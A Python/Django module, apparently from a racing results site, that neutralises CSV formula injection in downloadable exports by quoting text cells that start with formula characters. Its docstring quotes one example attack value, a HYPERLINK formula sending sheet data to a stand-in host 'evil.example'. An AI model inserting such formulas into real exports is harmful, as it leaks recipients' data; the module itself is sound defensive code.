"""The one CSV writer for every export a person downloads and may open in a spreadsheet.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
Excel also after a leading tab or carriage return. Exports carry text that people type themselves
(driver and team names, e-mail addresses, penalty reasons), so a name like
``=HYPERLINK("http://evil.example?"&A1,"Click")`` would leak the sheet or run commands. Every
text cell that starts with one of those characters gets a leading single quote, which makes the
spreadsheet show it as text (the OWASP advice for CSV injection).

Numbers are another matter: an ``int``, ``float`` or ``Decimal`` that our own code puts in a cell
(a position, a fee, an amount kept) is written as it is, so ``-5`` stays a number that sums and
sorts. Text is always text, even when it looks like a number: a ``-1`` someone typed as a
transponder, or our own gap ``+1.250`` (the gap column also holds ``+2L``, which a spreadsheet
would turn into a ``#NAME?`` formula), is written ``'-1`` and ``'+1.250``.

The output starts with a byte-order mark: Excel only reads a CSV as UTF-8, and so shows Chinese
names, when it does. ``tests/test_every_csv_export_goes_through_the_one_writer.py`` checks that
no module outside this one calls ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Protocol

from django.http import HttpResponse

BOM = "\ufeff"
# OWASP's list: the four formula prefixes, and tab and carriage return, after which Excel still
# reads a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def neutralise(value: object) -> object:
    """The cell as written: numbers as they are, None empty, text defused if it starts a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class CsvExport:
    """Writes the BOM once, then rows whose cells all pass through ``neutralise``."""

    def __init__(self, out: _Writable) -> None:
        out.write(BOM)
        self._writer = csv.writer(out)

    def row(self, cells: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in cells])


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    out = io.StringIO()
    export = CsvExport(out)
    export.row(header)
    for cells in rows:
        export.row(cells)
    return out.getvalue()


def csv_attachment(filename: str) -> tuple[HttpResponse, CsvExport]:
    """A download response and the writer that fills it; ``filename`` is ours, never user text."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response, CsvExport(response)
